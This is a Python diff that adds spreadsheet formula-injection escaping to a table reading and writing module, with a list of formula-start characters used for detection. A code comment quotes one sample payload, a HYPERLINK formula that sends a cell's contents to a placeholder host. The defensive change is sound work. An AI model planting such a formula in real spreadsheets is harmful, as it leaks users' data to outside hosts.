@@ -7,6 +7,35 @@ from pathlib import Path
 
 XLSX_MAGIC = b"PK\x03\x04"
 
+# A spreadsheet program runs a cell that starts with one of these as a formula (OWASP,
+# "CSV injection"): `=HYPERLINK("http://x/?"&B3,"x")` typed as a first name must stay text.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def escape_formula(value):
+    """Make a text cell inert for spreadsheet programs, reversibly (see unescape_formula).
+
+    A text starting with a formula character gets a leading apostrophe, as OWASP advises;
+    a text that already starts with apostrophes before such a character gets one more, so
+    that unescaping gives back exactly what was there. Numbers and dates are left alone.
+    """
+    if not isinstance(value, str) or not value:
+        return value
+    if value.lstrip("'").startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def unescape_formula(value):
+    """Undo escape_formula on a cell read from a file that Himoya (or a careful tool) wrote."""
+    if (
+        isinstance(value, str)
+        and value.startswith("'")
+        and value.lstrip("'").startswith(FORMULA_START)
+    ):
+        return value[1:]
+    return value
+
 
 def sniff_kind(path: Path) -> str:
     """Tell a file's kind from its first bytes and name: xlsx, zip, feather, xml or csv."""
@@ -37,7 +66,7 @@ def read_table(path: Path) -> Iterator[list]:
         wb = load_workbook(path, read_only=True, data_only=True)
         try:
             for row in wb.worksheets[0].iter_rows(values_only=True):
-                yield list(row)
+                yield [unescape_formula(v) for v in row]
         finally:
             wb.close()
         return
@@ -48,7 +77,8 @@ def read_table(path: Path) -> Iterator[list]:
             dialect = csv.Sniffer().sniff(sample, delimiters=",;\t")
         except csv.Error:
             dialect = csv.excel
-        yield from csv.reader(fh, dialect)
+        for row in csv.reader(fh, dialect):
+            yield [unescape_formula(v) for v in row]
 
 
 def write_csv(path_or_buffer, rows) -> None:
@@ -57,7 +87,7 @@ def write_csv(path_or_buffer, rows) -> None:
     try:
         writer = csv.writer(fh)
         for row in rows:
-            writer.writerow(row)
+            writer.writerow([escape_formula(v) for v in row])
     finally:
         if own:
             fh.close()
@@ -69,5 +99,5 @@ def write_xlsx(path, rows, sheet_title: str = "Sheet1") -> None:
     wb = Workbook(write_only=True)
     ws = wb.create_sheet(sheet_title)
     for row in rows:
-        ws.append(row)
+        ws.append([escape_formula(v) for v in row])
     wb.save(path)
